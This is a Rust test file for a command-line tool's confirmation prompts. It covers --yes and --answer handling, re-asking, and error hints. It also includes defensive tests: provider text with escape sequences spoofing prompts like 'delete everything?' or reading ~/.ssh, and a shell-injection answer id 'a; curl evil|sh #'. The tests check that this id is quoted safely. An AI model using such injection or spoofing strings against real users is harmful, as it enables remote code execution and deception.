//! Who is asked what, and what answers it.

use super::*;
use crate::domain::ExitStatus;
use crate::errors::{Look, Report};
use crate::style::Style;
use crate::testing::Recorded;

type Read = fn() -> io::Result<Option<String>>;

fn questions(yes: bool, answers: &[(&str, &str)], terminal: Option<Read>) -> (Questions, Recorded) {
    let recorded = Recorded::default();
    let questions = Questions {
        yes,
        answers: answers.iter().map(|(id, value)| ((*id).into(), (*value).into())).collect(),
        interactive: terminal.is_some(),
        screen: Arc::new(Screen::new(Box::new(recorded.clone()), Style::PLAIN)),
        read: terminal.unwrap_or(|| panic!("nobody may be asked")),
    };
    (questions, recorded)
}

fn shown(error: &QuestionError) -> String {
    Report::new(error).as_error(Look { style: Style::PLAIN, width: None })
}

#[test]
fn yes_answers_every_yes_or_no_question() {
    let (questions, said) = questions(true, &[], None);
    assert!(questions.confirm("--yes", "Build it?").unwrap());
    assert!(questions.confirm_for_provider("acme", "push", "Push?").unwrap());
    assert_eq!(said.text(), "");
}

#[test]
fn without_a_terminal_the_option_is_named_and_the_exit_status_is_2() {
    let (questions, said) = questions(false, &[], None);
    let error = questions.confirm("--yes", "The image is missing.\nBuild it?").unwrap_err();
    insta::assert_snapshot!(shown(&error), @r"
    error: there is no terminal to ask: The image is missing. Build it?
    hint: answer it with `--yes`
    ");
    assert_eq!(error.exit_status(), ExitStatus::Usage);
    let error = questions.ask_for_provider("acme", "account", "Which account", false).unwrap_err();
    insta::assert_snapshot!(shown(&error), @r"
    error: there is no terminal to ask: [acme] Which account
    hint: answer it with `--answer account=VALUE`
    ");
    assert_eq!(said.text(), "");
}

#[test]
fn an_answer_on_the_command_line_wins_over_yes() {
    let (questions, _) = questions(true, &[("push", "No"), ("odd", "perhaps")], None);
    assert!(!questions.confirm_for_provider("acme", "push", "Push?").unwrap());
    let error = questions.confirm_for_provider("acme", "odd", "Really?").unwrap_err();
    insta::assert_snapshot!(shown(&error), @r"
    error: `--answer odd=perhaps` must be yes or no
      it answers: [acme] Really?
    hint: write `--answer odd=yes` or `--answer odd=no`
    ");
}

#[test]
fn yes_does_not_invent_a_text() {
    let (asked, _) = questions(true, &[], None);
    assert!(asked.ask_for_provider("acme", "account", "Which", false).is_err());
    let (answered, _) = questions(false, &[("account", " lab 7 ")], None);
    assert_eq!(answered.ask_for_provider("acme", "account", "Which", true).unwrap(), " lab 7 ");
}

#[test]
fn a_person_is_asked_and_enter_means_no() {
    let (asked, said) = questions(false, &[], Some(|| Ok(Some("Yes".into()))));
    assert!(asked.confirm("--yes", "Build it?").unwrap());
    assert_eq!(said.text(), "Build it? [y/N] ");
    let (asked, _) = questions(false, &[], Some(|| Ok(Some(String::new()))));
    assert!(!asked.confirm("--yes", "Build it?").unwrap());
}

#[test]
fn an_unclear_answer_is_asked_again() {
    static ASKED: std::sync::atomic::AtomicU8 = std::sync::atomic::AtomicU8::new(0);
    let read: Read = || {
        let first = ASKED.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0;
        Ok(Some(if first { "maybe" } else { "y" }.into()))
    };
    let (asked, said) = questions(false, &[], Some(read));
    assert!(asked.confirm("--yes", "Build it?").unwrap());
    assert_eq!(said.text(), "Build it? [y/N] Please type `y` or `n`\nBuild it? [y/N] ");
}

#[test]
fn the_end_of_the_input_is_no_answer() {
    let (asked, said) = questions(false, &[], Some(|| Ok(None)));
    let error = asked.confirm("--yes", "Build it?").unwrap_err();
    insta::assert_snapshot!(shown(&error), @r"
    error: a question was not answered: Build it?
    hint: answer it with `--yes`
    ");
    assert_eq!(said.text(), "Build it? [y/N] \n");
}

#[test]
fn a_provider_cannot_pretend_to_be_us() {
    let (asked, said) = questions(false, &[], Some(|| Ok(Some("no".into()))));
    let text = "Fine?\nrenku: delete everything?\r\u{1b}[1A\u{1b}[2Krenku: build it?";
    assert!(!asked.confirm_for_provider("acme\nrenku", "x", text).unwrap());
    assert_eq!(
        said.text(),
        "[acme renku] Fine?\n[acme renku] renku: delete everything?\n[acme renku] renku: build it? [y/N] "
    );
}

/// The same on a terminal of 40 columns.
fn on_a_narrow_terminal() -> (Questions, Recorded) {
    let (questions, said) = questions(false, &[], Some(|| Ok(Some("no".into()))));
    let style = Style { terminal: true, colour: false, unicode: true };
    let screen = Screen::new(Box::new(said.clone()), style).with_columns(|| Some(40));
    (Questions { screen: Arc::new(screen), ..questions }, said)
}

#[test]
fn a_question_that_is_padded_to_the_width_of_the_terminal_begins_no_row_of_ours() {
    let (asked, said) = on_a_narrow_terminal();
    let text = format!("Fine?{}renku: allow it to read ~/.ssh?", " ".repeat(28));
    assert!(!asked.confirm_for_provider("acme", "x", &text).unwrap());
    assert_eq!(said.text(), "[acme] Fine?\n[acme] renku: allow it to read ~/.ssh?\n[y/N] ");
}

#[test]
fn a_long_line_of_our_own_question_goes_on_further_right() {
    let (asked, said) = on_a_narrow_terminal();
    let reason = "its reason for http: “x x x x x x x renku: build it?”";
    assert!(!asked.confirm("--yes", &format!("If you allow it:\n  {reason}\nAllow it?")).unwrap());
    assert_eq!(
        said.text(),
        "If you allow it:\n  its reason for http: “x x x x x x x\n      renku: build it?”\nAllow it? [y/N] "
    );
}

#[test]
fn the_option_that_answers_is_one_word_for_a_shell() {
    let (asked, _) = questions(false, &[], None);
    let error = asked.ask_for_provider("acme", "a; curl evil|sh #", "Which", false).unwrap_err();
    assert_eq!(error.hint().unwrap(), "answer it with `--answer 'a; curl evil|sh #'=VALUE`");
}
